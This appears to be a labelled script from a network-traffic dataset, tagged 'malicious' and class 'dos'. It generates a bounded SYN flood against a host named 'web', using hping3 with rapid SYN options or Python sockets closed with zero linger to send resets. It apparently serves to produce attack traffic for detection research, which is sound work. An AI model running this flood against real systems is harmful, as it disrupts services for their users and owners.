# label: malicious
# class: dos
# twin: web_burst service_checks
# tools: hping3 python3-minimal
# about: A bounded flood of connection attempts: raw SYNs, or the kernel's own that are dropped at once.
# command: hping3 -S, or connect and reset in Python
# params: raw net=lan HPING="-S -p 80 -i u1500 -c 1000" as=gz
# params: ports net=office HPING="-S -p ++443 -i u4000 -c 700"
# params: kernel net=wan HPING= N=450 PAUSE=0.012 as=gz
import os
import random
import socket
import struct
import subprocess
import time

if os.environ["HPING"]:
    subprocess.run(["hping3", "-q", *os.environ["HPING"].split(), "web"])
else:
    for _ in range(int(os.environ["N"])):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("web", 80))
        # A zero linger makes the close a reset, or forgets a SYN on its way.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        time.sleep(random.uniform(0.2, 1.8) * float(os.environ["PAUSE"]))
        s.close()
